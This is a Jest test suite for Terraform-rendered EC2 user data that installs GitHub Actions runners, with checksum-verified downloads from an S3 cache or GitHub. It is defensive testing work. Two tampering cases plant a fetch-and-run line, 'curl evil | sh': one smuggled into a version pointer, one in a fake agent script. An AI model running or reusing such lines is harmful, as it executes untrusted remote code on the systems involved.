/**
 * The runner user data (modules/runner-pool/templates/user-data.sh.tftpl), rendered by
 * Terraform's own templatefile() in a provider-free root (offline), must be valid bash that
 * fetches the agent and actions/runner verified (from the artifact bucket through the S3 facade,
 * or GitHub), and writes an agent settings file the agent can source, whatever it holds.
 */
import { afterAll, beforeAll, expect, test } from '@jest/globals';
import { spawn, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { z } from 'zod';
import { S3Facade } from '../../src/sim/facades/artifacts/s3-facade.js';

const repo = fileURLToPath(new URL('../../..', import.meta.url));
const template = join(repo, 'modules', 'runner-pool', 'templates', 'user-data.sh.tftpl');
const agent = join(repo, 'agent', 'ghr-agent.sh');
const unit = join(repo, 'agent', 'ghr-agent.service');

let workDir = '';
let env: NodeJS.ProcessEnv = {};

/** A JSON value is also an HCL expression once template sequences are escaped. */
function hcl(value: unknown): string {
  return JSON.stringify(value).replace(/\$\{/g, '$${').replace(/%\{/g, '%%{');
}

function sh(command: string, args: readonly string[], cwd: string, input?: string) {
  const result = spawnSync(command, args, { cwd, env, encoding: 'utf8', input, timeout: 120_000 });
  if (result.error) throw result.error;
  return result;
}

/** Text between `start` and the next `end` (both excluded). */
function between(text: string, start: string, end: string): string {
  const from = text.indexOf(start);
  expect(from).toBeGreaterThanOrEqual(0);
  const to = text.indexOf(end, from + start.length);
  expect(to).toBeGreaterThan(from);
  return text.slice(from + start.length, to);
}

const settings = {
  GHR_POOL: 'linux-x64',
  GHR_EPHEMERAL: 'false',
  GHR_QUEUE_URL: 'https://sqs.eu-west-1.amazonaws.com/123456789012/ghr-linux-x64',
  GHR_CONFIG_PATH: '/github-action-runners/ghr/runners/config/linux-x64',
  GHR_RUNNER_DIR: '/opt/actions-runner',
  GHR_RUNNER_USER: 'ec2-user',
  GHR_ENVIRONMENT: 'it\'s $HOME `date` "quoted"',
};

/** Stands in for a runner tarball (one file the user data runs); the template pins its SHA-256 like a real release's. */
function fakeRunnerTarball(marker: string): Buffer {
  const dir = mkdtempSync(join(tmpdir(), 'ghr-tarball-'));
  mkdirSync(join(dir, 'bin'));
  writeFileSync(join(dir, 'bin', 'installdependencies.sh'), `#!/bin/sh\n# ${marker}\n`, { mode: 0o755 });
  const packed = spawnSync('tar', ['czf', '-', '-C', dir, 'bin']);
  rmSync(dir, { recursive: true, force: true });
  return packed.stdout;
}
const tarball = fakeRunnerTarball('2.329.0');
const newerTarball = fakeRunnerTarball('2.330.0');
const sha256 = (text: string | Buffer) => createHash('sha256').update(text).digest('hex');
const tarballSha256 = sha256(tarball);
const agentSha256 = sha256(readFileSync(agent));
const unitSha256 = sha256(readFileSync(unit));
const BUCKET = 'ghr-artifacts-test';

let rendered = '';
/** The same pool with `install_docker` and `install_git` false, and no instance logs. */
let bare = '';
/** The same pool on the `ubuntu` and `prebuilt` image profiles. */
let ubuntu = '';
let prebuilt = '';
/** A pool on `runner_version = "latest"`, and one without the runner binary cache. */
let latest = '';
let noCache = '';

beforeAll(() => {
  // Prepare: a root module whose only output is the rendered template.
  const version = spawnSync('terraform', ['version'], { encoding: 'utf8' });
  if (version.error || version.status !== 0) {
    throw new Error(
      `terraform CLI not found on PATH: rendering the user data needs Terraform >= 1.7 (${version.error?.message ?? version.stderr})`,
    );
  }
  workDir = mkdtempSync(join(tmpdir(), 'ghr-user-data-'));
  const rc = spawnSync('bash', [join(repo, 'scripts', 'terraform', 'cli-config.sh'), join(workDir, 'terraformrc')], {
    encoding: 'utf8',
  });
  if (rc.status !== 0) throw new Error(`scripts/terraform/cli-config.sh failed: ${rc.stderr}`);
  env = { ...process.env, TF_CLI_CONFIG_FILE: rc.stdout.trim(), CHECKPOINT_DISABLE: '1', TF_IN_AUTOMATION: '1' };
  writeFileSync(
    join(workDir, 'main.tf'),
    `locals {
  vars = {
    agent_script          = trimspace(file(${hcl(agent)}))
    agent_unit            = trimspace(file(${hcl(unit)}))
    agent_settings        = ${hcl(settings)}
    runner_latest         = false
    runner_version        = "2.329.0"
    runner_arch           = "x64"
    runner_sha256         = "${tarballSha256}"
    runner_cache          = true
    artifact_bucket       = "${BUCKET}"
    agent_key             = "agent/${agentSha256}/ghr-agent.sh"
    agent_sha256          = "${agentSha256}"
    unit_key              = "agent/${unitSha256}/ghr-agent.service"
    unit_sha256           = "${unitSha256}"
    region                = "eu-west-1"
    run_as                = "ec2-user"
    userdata_pre_install  = "echo pre"
    userdata_post_install = "echo post"
    install_docker        = true
    install_git           = true
    image_profile         = "al2023"
    log_group             = "/github-runners/ghr_linux-x64"
  }
}
output "user_data" {
  value = templatefile(${hcl(template)}, local.vars)
}
output "user_data_bare" {
  value = templatefile(${hcl(template)}, merge(local.vars, { install_docker = false, install_git = false, log_group = "" }))
}
output "user_data_ubuntu" {
  value = templatefile(${hcl(template)}, merge(local.vars, { image_profile = "ubuntu" }))
}
output "user_data_prebuilt" {
  value = templatefile(${hcl(template)}, merge(local.vars, { image_profile = "prebuilt" }))
}
output "user_data_latest" {
  value = templatefile(${hcl(template)}, merge(local.vars, { runner_latest = true }))
}
output "user_data_no_cache" {
  value = templatefile(${hcl(template)}, merge(local.vars, { runner_cache = false }))
}
`,
  );

  // Act
  const applied = sh('terraform', ['apply', '-auto-approve', '-input=false', '-no-color'], workDir);
  if (applied.status !== 0) throw new Error(`terraform apply failed:\n${applied.stdout}\n${applied.stderr}`);
  const output = sh('terraform', ['output', '-json'], workDir);
  const text = z.object({ value: z.string() });
  const outputs = z
    .object({
      user_data: text,
      user_data_bare: text,
      user_data_ubuntu: text,
      user_data_prebuilt: text,
      user_data_latest: text,
      user_data_no_cache: text,
    })
    .parse(JSON.parse(output.stdout));
  rendered = outputs.user_data.value;
  bare = outputs.user_data_bare.value;
  ubuntu = outputs.user_data_ubuntu.value;
  prebuilt = outputs.user_data_prebuilt.value;
  latest = outputs.user_data_latest.value;
  noCache = outputs.user_data_no_cache.value;
});

afterAll(() => {
  if (workDir !== '') rmSync(workDir, { recursive: true, force: true });
});

const profiles = [
  ['al2023 with git and Docker', () => rendered],
  ['al2023 without them', () => bare],
  ['ubuntu', () => ubuntu],
  ['prebuilt', () => prebuilt],
  ['latest from the cache', () => latest],
  ['without the cache', () => noCache],
] as const;

test.each(profiles)('the rendered user data is valid bash (%s)', (_name, text) => {
  const check = sh('bash', ['-n'], workDir, text());
  expect(check.stderr).toBe('');
  expect(check.status).toBe(0);
});

test.each(profiles)('the rendered user data is shellcheck-clean (%s)', (_name, text) => {
  const found = spawnSync('shellcheck', ['--version'], { encoding: 'utf8' });
  if (found.error)
    throw new Error(`shellcheck not found on PATH (Debian: apt-get install shellcheck): ${found.error.message}`);
  const check = sh('shellcheck', ['--shell=bash', '--severity=warning', '-'], workDir, text());
  expect(check.stdout).toBe('');
  expect(check.status).toBe(0);
});

test('ubuntu installs with apt (docker.io, the AWS CLI snap when missing), never dnf', () => {
  const lines = ubuntu.split('\n');
  expect(lines).toContain('packages="curl tar gzip git docker.io"');
  expect(lines).toContain('apt-get -o DPkg::Lock::Timeout=600 install -y -q $packages');
  expect(lines).toContain('command -v aws >/dev/null || snap install aws-cli --classic');
  expect(ubuntu).not.toContain('dnf install');
  expect(lines.indexOf('usermod -aG docker ec2-user')).toBeGreaterThan(
    lines.indexOf('apt-get -o DPkg::Lock::Timeout=600 install -y -q $packages'),
  );
});

test('prebuilt installs nothing, and stops when the image lacks the runner, the AWS CLI or (install_docker) Docker', () => {
  // Prepare: the checks exactly as rendered.
  expect(prebuilt).not.toMatch(/dnf install|apt-get|snap install|curl -fsSL|tar xzf/);
  const runnerCheck = prebuilt.split('\n').find((line) => line.includes('run.sh'));
  const cliCheck = prebuilt.split('\n').find((line) => line.startsWith('command -v aws'));
  const dockerCheck = prebuilt.split('\n').find((line) => line.startsWith('command -v docker'));
  expect(runnerCheck).toBeDefined();
  expect(cliCheck).toBeDefined();
  expect(prebuilt.indexOf(dockerCheck ?? '-')).toBeLessThan(prebuilt.indexOf('systemctl enable --now docker'));
  const dir = mkdtempSync(join(workDir, 'prebuilt-'));
  const runnerScript = `runner_dir=${dir}\n${runnerCheck ?? 'true'}`;
  const cliScript = `PATH=${dir}\n${cliCheck ?? 'true'}`;
  const dockerScript = `PATH=${dir}\n${dockerCheck ?? 'true'}`;

  // Act + Assess: without run.sh (or aws on PATH) the check fails (set -e ends user data); with it, passes.
  expect(sh('bash', ['-euo', 'pipefail', '-c', runnerScript], dir).status).not.toBe(0);
  expect(sh('bash', ['-euo', 'pipefail', '-c', cliScript], dir).status).not.toBe(0);
  expect(sh('/bin/bash', ['-euo', 'pipefail', '-c', dockerScript], dir).status).not.toBe(0);
  writeFileSync(join(dir, 'run.sh'), '#!/bin/sh\n', { mode: 0o755 });
  writeFileSync(join(dir, 'aws'), '#!/bin/sh\n', { mode: 0o755 });
  writeFileSync(join(dir, 'docker'), '#!/bin/sh\n', { mode: 0o755 });
  expect(sh('/bin/bash', ['-euo', 'pipefail', '-c', dockerScript], dir).status).toBe(0);
  expect(sh('bash', ['-euo', 'pipefail', '-c', runnerScript], dir).status).toBe(0);
  expect(sh('/bin/bash', ['-euo', 'pipefail', '-c', cliScript], dir).status).toBe(0);
});

test('git and Docker are installed by default, Docker started and the runner user in its group once it exists', () => {
  const lines = rendered.split('\n');
  expect(lines).toContain('packages="libicu tar gzip git docker"');
  expect(lines).toContain('dnf install -y -q $packages || yum install -y -q $packages');
  const useradd = lines.findIndex((l) => l.includes('useradd --create-home ec2-user'));
  const group = lines.indexOf('usermod -aG docker ec2-user');
  expect(useradd).toBeGreaterThan(0);
  expect(group).toBeGreaterThan(useradd);
  expect(lines.indexOf('systemctl enable --now docker')).toBeGreaterThan(
    lines.findIndex((l) => l.startsWith('dnf install')),
  );
});

test('a pool that opts out gets neither git nor Docker', () => {
  expect(bare.split('\n')).toContain('packages="libicu tar gzip"');
  expect(bare).not.toContain('usermod -aG docker');
  expect(bare).not.toContain('systemctl enable --now docker');
  expect(rendered).not.toContain('command -v docker');
});

test('the agent settings file sources back to the exact values, quotes and $ included', () => {
  // Prepare
  const envFile = join(workDir, 'ghr-agent.env');
  writeFileSync(envFile, between(rendered, "cat >/etc/ghr-agent.env <<'ENV'\n", '\nENV\n'));

  // Act: source it the way the agent does and print every setting, NUL-separated.
  const entries = Object.entries(settings);
  const names = entries.map(([name]) => name);
  const script = `set -eu; . "$1"; printf '%s\\0' ${names.map((n) => `"$${n}"`).join(' ')}`;
  const sourced = sh('bash', ['-c', script, 'bash', envFile], workDir);

  // Assess
  expect(sourced.status).toBe(0);
  expect(sourced.stdout.split('\0').slice(0, -1)).toEqual(entries.map(([, value]) => value));
});

test('the pool hooks run around the installation', () => {
  expect(rendered.indexOf('echo pre')).toBeLessThan(rendered.indexOf('actions-runner-linux-x64-$version.tar.gz'));
  expect(rendered.indexOf('echo post')).toBeLessThan(rendered.indexOf('systemctl enable --now ghr-agent.service'));
});

/** The CloudWatch agent's configuration as user data writes it. */
function logsConfig(text: string): unknown {
  return JSON.parse(between(text, "<<'CWA_CONFIG_EOF'\n", '\nCWA_CONFIG_EOF'));
}

test.each([
  ['al2023', () => rendered],
  ['ubuntu', () => ubuntu],
  ['prebuilt', () => prebuilt],
] as const)('instance logs (%s): the agent ships user data, agent and runner logs to the pool group', (_name, text) => {
  const streams = z
    .object({
      agent: z.object({ run_as_user: z.literal('root') }),
      logs: z.object({
        logs_collected: z.object({
          files: z.object({
            collect_list: z.array(
              z.strictObject({ file_path: z.string(), log_group_name: z.string(), log_stream_name: z.string() }),
            ),
          }),
        }),
      }),
    })
    .parse(logsConfig(text())).logs.logs_collected.files.collect_list;
  expect(streams.map((s) => [s.file_path, s.log_stream_name])).toEqual([
    ['/var/log/ghr-user-data.log', '{instance_id}/user-data'],
    ['/var/log/ghr-agent.log', '{instance_id}/agent'],
    ['/var/lib/ghr-agent/runner.log', '{instance_id}/runner'],
    ['/opt/actions-runner/_diag/*.log', '{instance_id}/runner-diag'],
  ]);
  expect(new Set(streams.map((s) => s.log_group_name))).toEqual(new Set(['/github-runners/ghr_linux-x64']));
  // The agent's output goes to the file shipped above, set before the agent unit starts.
  expect(text()).toContain('StandardOutput=append:/var/log/ghr-agent.log');
  expect(text().indexOf('ghr-agent.service.d/logs.conf')).toBeLessThan(
    text().lastIndexOf('systemctl enable --now ghr-agent.service'),
  );
});

test('instance logs install the CloudWatch agent per profile, and never fail the boot', () => {
  expect(rendered).toContain(
    'dnf install -y -q amazon-cloudwatch-agent || yum install -y -q amazon-cloudwatch-agent || true',
  );
  expect(ubuntu).toContain(
    'https://amazoncloudwatch-agent.s3.amazonaws.com/ubuntu/amd64/latest/amazon-cloudwatch-agent.deb',
  );
  expect(ubuntu).toContain('dpkg -i -E /tmp/cwa.deb || true');
  expect(prebuilt).not.toMatch(/amazon-cloudwatch-agent\.deb|dnf install/);
  // Without the agent binary the section only says so (user data runs under set -e).
  const section = between(rendered, 'cwa_dir=/opt/aws/amazon-cloudwatch-agent\n', '\nfi\n');
  const withoutInstall = section
    .split('\n')
    .filter((l) => !l.startsWith('dnf install'))
    .join('\n');
  const dir = mkdtempSync(join(workDir, 'logs-'));
  const run = sh('bash', ['-euo', 'pipefail', '-c', `cwa_dir=${dir}\n${withoutInstall}\nfi\necho reached`], dir);
  expect([run.status, run.stdout.trim().split('\n')]).toEqual([
    0,
    ['no CloudWatch agent on this image: instance logs stay on the instance', 'reached'],
  ]);
});

test('without instance logs nothing of the CloudWatch agent is rendered', () => {
  expect(bare).not.toMatch(/cloudwatch|ghr-agent\.log/i);
});

// --- Fetching from the artifact bucket: each branch run against the S3 facade (through the aws shim). ---

const BIN = join(repo, 'lambdas', 'src', 'bench', 'agent');

interface Fetched {
  readonly status: number;
  readonly output: string;
  readonly githubDownloads: string[];
  readonly unpacked: string | undefined;
  readonly agentInstalled: boolean;
}

/**
 * Runs the user data from the fetch function to the agent's unit, in a scratch directory: `aws`
 * is the shim (S3 facade), `curl` copies from a stand-in for GitHub's releases, `sleep` returns.
 */
async function fetchSection(
  text: string,
  bucket: Record<string, Buffer | string>,
  github: Record<string, Buffer>,
): Promise<Fetched> {
  const dir = mkdtempSync(join(workDir, 'fetch-'));
  const shims = join(dir, 'shims');
  const releases = join(dir, 'github');
  mkdirSync(shims);
  mkdirSync(releases);
  writeFileSync(join(shims, 'aws'), `#!/bin/sh\nexec "${process.execPath}" "${join(BIN, 'aws-shim.mjs')}" "$@"\n`, {
    mode: 0o755,
  });
  writeFileSync(join(shims, 'sleep'), '#!/bin/sh\n', { mode: 0o755 });
  // curl -fsSL --retry 5 -o FILE URL: the release file by name, or curl's exit 22 (HTTP 404).
  writeFileSync(
    join(shims, 'curl'),
    `#!/bin/bash\nout=; for ((i = 1; i <= $#; i++)); do [ "\${!i}" = -o ] && { j=$((i + 1)); out=\${!j}; }; done\nurl=\${!#}\necho "$url" >>"${releases}/downloads.log"\ncp "${releases}/$(basename "$url")" "$out" 2>/dev/null || exit 22\n`,
    { mode: 0o755 },
  );
  for (const [name, bytes] of Object.entries(github)) writeFileSync(join(releases, name), bytes);
  const s3 = new S3Facade();
  const url = await s3.start();
  for (const [key, body] of Object.entries(bucket)) s3.seed(BUCKET, key, body);
  const section = text
    .slice(text.indexOf('fetch_verified() {'), text.indexOf('\n# Agent settings'))
    .replace('runner_dir=/opt/actions-runner', `runner_dir=${join(dir, 'runner')}`)
    .replace(/^chown -R .*$/m, ':')
    .concat(
      between(
        text,
        '# The agent and its unit, as this module version ships them (agent/), checked against their SHA-256.\n',
        '\n\n',
      ),
    )
    .replaceAll('/usr/local/bin/ghr-agent', join(dir, 'ghr-agent'))
    .replaceAll('/etc/systemd/system/ghr-agent.service', join(dir, 'ghr-agent.service'));
  try {
    const run = await new Promise<{ status: number; output: string }>((resolve) => {
      const child = spawn('bash', ['-euo', 'pipefail', '-c', section], {
        cwd: dir,
        env: { ...env, PATH: `${shims}:${env.PATH ?? ''}`, GHR_TEST_S3_URL: url },
      });
      let output = '';
      child.stdout.on('data', (d: Buffer) => (output += d.toString()));
      child.stderr.on('data', (d: Buffer) => (output += d.toString()));
      child.on('close', (code) => resolve({ status: code ?? -1, output }));
    });
    const log = join(releases, 'downloads.log');
    const marker = join(dir, 'runner', 'bin', 'installdependencies.sh');
    return {
      ...run,
      githubDownloads: existsSync(log) ? readFileSync(log, 'utf8').trim().split('\n') : [],
      unpacked: existsSync(marker) ? readFileSync(marker, 'utf8').split('\n')[1] : undefined,
      agentInstalled:
        existsSync(join(dir, 'ghr-agent')) && readFileSync(join(dir, 'ghr-agent')).equals(readFileSync(agent)),
    };
  } finally {
    await s3.close();
  }
}

const agentObjects = () => ({
  [`agent/${agentSha256}/ghr-agent.sh`]: readFileSync(agent),
  [`agent/${unitSha256}/ghr-agent.service`]: readFileSync(unit),
});
const cached = (version: string, bytes: Buffer) => ({
  [`runners/${version}/actions-runner-linux-x64-${version}.tar.gz`]: bytes,
});
const released = (version: string, bytes: Buffer) => ({ [`actions-runner-linux-x64-${version}.tar.gz`]: bytes });

test('pinned release in the cache: unpacked from the bucket, nothing from GitHub; the agent installed as shipped', async () => {
  const run = await fetchSection(rendered, { ...agentObjects(), ...cached('2.329.0', tarball) }, {});
  expect([run.status, run.unpacked, run.githubDownloads, run.agentInstalled]).toEqual([0, '# 2.329.0', [], true]);
  expect(run.output).toContain('actions/runner 2.329.0 (x64) from the cache');
});

test("a cached tarball that does not match the pin is not unpacked: GitHub's, which matches, is", async () => {
  const run = await fetchSection(
    rendered,
    { ...agentObjects(), ...cached('2.329.0', newerTarball) },
    released('2.329.0', tarball),
  );
  expect([run.status, run.unpacked, run.githubDownloads.length]).toEqual([0, '# 2.329.0', 1]);
  expect(run.output).toContain('from the GitHub');
});

test('nothing cached and a tampered download from GitHub: user data stops before unpacking', async () => {
  const run = await fetchSection(rendered, agentObjects(), released('2.329.0', newerTarball));
  expect([run.status === 0, run.unpacked, run.agentInstalled]).toEqual([false, undefined, false]);
});

test("latest: the cache's pointer names the release and its SHA-256; the tarball comes from the bucket", async () => {
  const bucket = {
    ...agentObjects(),
    ...cached('2.330.0', newerTarball),
    'runners/latest/linux-x64': `2.330.0 ${sha256(newerTarball)}\n`,
  };
  const run = await fetchSection(latest, bucket, {});
  expect([run.status, run.unpacked, run.githubDownloads]).toEqual([0, '# 2.330.0', []]);
  expect(run.output).toContain('actions/runner 2.330.0 (x64) from the cache');
});

test.each([
  ['no pointer yet', undefined],
  ['a pointer that is not `<version> <sha256>`', '2.330.0; curl evil | sh\n'],
])('latest with %s: the pinned release, from GitHub when the bucket lacks it', async (_name, pointer) => {
  const bucket = { ...agentObjects(), ...(pointer === undefined ? {} : { 'runners/latest/linux-x64': pointer }) };
  const run = await fetchSection(latest, bucket, released('2.329.0', tarball));
  expect([run.status, run.unpacked, run.githubDownloads]).toEqual([
    0,
    '# 2.329.0',
    ['https://github.com/actions/runner/releases/download/v2.329.0/actions-runner-linux-x64-2.329.0.tar.gz'],
  ]);
});

test('an agent in the bucket that is not the one this module ships is never installed: user data stops', async () => {
  const bucket = {
    ...agentObjects(),
    [`agent/${agentSha256}/ghr-agent.sh`]: '#!/bin/bash\ncurl evil | sh\n',
    ...cached('2.329.0', tarball),
  };
  const run = await fetchSection(rendered, bucket, {});
  expect([run.status === 0, run.agentInstalled]).toEqual([false, false]);
});

test("without the cache the bucket's tarballs are never read: GitHub's release is", async () => {
  const run = await fetchSection(
    noCache,
    { ...agentObjects(), ...cached('2.329.0', tarball) },
    released('2.329.0', tarball),
  );
  expect([run.status, run.githubDownloads.length, run.agentInstalled]).toEqual([0, 1, true]);
});
